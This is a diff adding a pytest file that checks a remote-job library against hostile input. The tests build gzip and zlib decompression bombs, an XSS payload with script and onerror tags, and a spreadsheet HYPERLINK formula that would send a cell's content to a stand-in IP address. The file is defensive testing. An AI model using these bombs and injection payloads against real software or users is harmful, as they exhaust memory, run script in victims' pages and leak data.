@@ -1,0 +1,170 @@
+"""Promise 11: outside text stays text. The widget's side of it is tested with the dashboard."""
+
+from __future__ import annotations
+
+import base64
+import json
+import zlib
+
+import pytest
+from unruly import UnrulyCloud
+
+from jobgroup import JobGroup, RemoteJob, set_token
+
+SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(2)>"
+FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1)'
+MEASURED = """
+import resource
+def rss_mb():
+    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
+"""
+
+
+def endless(block_mb: int, blocks: int) -> bytes:
+    """Raw deflate that unpacks to so many blocks of zeros; a block can be repeated as it is."""
+    packer = zlib.compressobj(9, wbits=-15)
+    block = packer.compress(bytes(block_mb << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    return block * blocks
+
+
+@pytest.fixture
+def unruly():
+    """A cloud whose answers the test chooses."""
+    with UnrulyCloud() as running:
+        set_token(running.token, url=running.url)
+        yield running
+
+
+def test_a_cloud_that_answers_without_end_does_not_fill_the_memory(unruly, child):
+    """Answers that unpack to gigabytes concern their jobs alone: a dozen states, and a result."""
+    bomb = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff" + endless(32, 96)
+    assert len(bomb) < 5_000_000
+    told = {("status", f"job-{n}"): (200 + 300 * (n % 2), bomb) for n in range(1, 13)}
+    told["result", "job-13"] = (200, bomb)
+    gzip = {"Content-Encoding": "gzip"}
+    unruly.answer = lambda call, job_id: (
+        (*told[call, job_id], gzip) if (call, job_id) in told else None
+    )
+    bombed = child(
+        MEASURED
+        + """
+import warnings
+warnings.simplefilter("ignore")
+set_token(token, url=url)
+jg = JobGroup("bombed")
+jg.add_many([RemoteJob({"c": 1}, platform="p", url=url, name=str(n)) for n in range(14)])
+jg.run_parallel()
+before = rss_mb()
+jg.refresh()
+results = jg.get_results()
+say([rss_mb() - before, [j.state for j in jg], results[13] is not None])
+""",
+        url=unruly.url,
+        token=unruly.token,
+    )
+    ((grown_mb, states, has_last),) = bombed.all(timeout_s=100)
+    assert grown_mb < 900
+    assert "success" not in states[:12]
+    assert states[12:] == ["success", "success"]
+    assert has_last
+
+
+def test_a_bomb_in_a_stored_body_does_not_fill_the_memory(unruly, child):
+    """A colleague's file whose body unpacks to gigabytes: it is not sent, the job behind it is."""
+    blob = b"\x78\xda" + endless(32, 96)
+    bombed = child(
+        MEASURED
+        + """
+import base64, sqlite3
+from jobgroup.store.paths import group_path
+set_token(token, url=url)
+jg = JobGroup("bombed")
+jg.add_many([RemoteJob({"c": 1, "n": n}, platform="p", url=url, name=str(n)) for n in range(2)])
+file = sqlite3.connect(group_path("bombed"))
+file.execute("UPDATE payloads SET body = ? WHERE id = 1", (base64.b64decode(blob),))
+file.commit()
+file.close()
+before = rss_mb()
+try:
+    jg.run_parallel(queue=True)
+except JobGroupError:
+    pass
+say([rss_mb() - before, [j.state for j in jg]])
+""",
+        url=unruly.url,
+        token=unruly.token,
+        blob=base64.b64encode(blob).decode(),
+    )
+    ((grown_mb, states),) = bombed.all()
+    assert grown_mb < 700
+    assert states[0] == "unsent"
+    assert states[1] != "unsent"
+    assert unruly.count("create") == 1
+
+
+def test_a_bomb_in_a_result_does_not_fill_the_memory(unruly, child):
+    """Perceval's own texts can be packed: one that unpacks to gigabytes is not unpacked."""
+    pytest.importorskip("perceval")
+    packed = b"\x78\xda" + endless(32, 96)
+    texts = {
+        f"job-{n}": json.dumps({"results": f"{mark}{base64.b64encode(packed).decode()}"})
+        for n, mark in enumerate((":PCVL:zip:", "pcvlar:zip:"), 1)
+    }
+    unruly.answer = lambda call, job_id: (
+        (200, {"results": texts[job_id]}) if call == "result" and job_id in texts else None
+    )
+    bombed = child(
+        MEASURED
+        + """
+import perceval, warnings
+warnings.simplefilter("ignore")
+set_token(token, url=url)
+jg = JobGroup("bombed")
+jg.add_many([RemoteJob({"c": 1}, platform="p", url=url, name=str(n)) for n in range(3)])
+jg.run_parallel()
+jg.wait(30)
+before = rss_mb()
+results = jg.get_results()
+say([rss_mb() - before, [r is not None for r in results]])
+""",
+        url=unruly.url,
+        token=unruly.token,
+    )
+    ((grown_mb, had),) = bombed.all(timeout_s=60)
+    assert grown_mb < 700
+    assert had[2]
+
+
+def test_what_a_cloud_and_a_user_write_is_shown_as_text(group, job, cloud, caplog):
+    """Names, sentences, notes and labels with markup keep every character, and are markup nowhere
+    that a page is made of.
+    """
+    jg = JobGroup(SCRIPT)
+    for text in (SCRIPT, FORMULA):
+        jg.add(job(text, url=cloud.url, fail=text), labels={text: text})
+    jg.run_parallel()
+    jg.wait(30)
+    for text, one in zip((SCRIPT, FORMULA), jg, strict=True):
+        one.note = text
+        assert (one.name, one.message, one.note, one.labels) == (text, text, text, {text: text})
+        assert text in one.attempts[0].message
+    bundle = jg._repr_mimebundle_()
+    data = bundle[0] if isinstance(bundle, tuple) else bundle
+    page = data.get("text/html", "")
+    assert "<script>alert" not in page
+    assert "<img src=x" not in page
+    assert JobGroup.list_existing() == [SCRIPT]
+
+
+def test_a_long_sentence_is_kept_short(unruly):
+    """A cloud that writes megabytes about a job does not make the group grow by them."""
+    jg = JobGroup("verbose")
+    for n in range(3):
+        jg.add(RemoteJob({"c": 1}, platform="p", url=unruly.url, name=str(n)))
+    jg.run_parallel()
+    long = {"status": "error", "status_message": "x" * 3_000_000}
+    unruly.answer = lambda call, job_id: (200, long) if call == "status" else None
+    jg.refresh()
+    assert [j.state for j in jg] == ["error"] * 3
+    assert all(0 < len(j.message or "") <= 10_000 for j in jg)
+    assert JobGroup.summaries()[0].size_bytes < 500_000
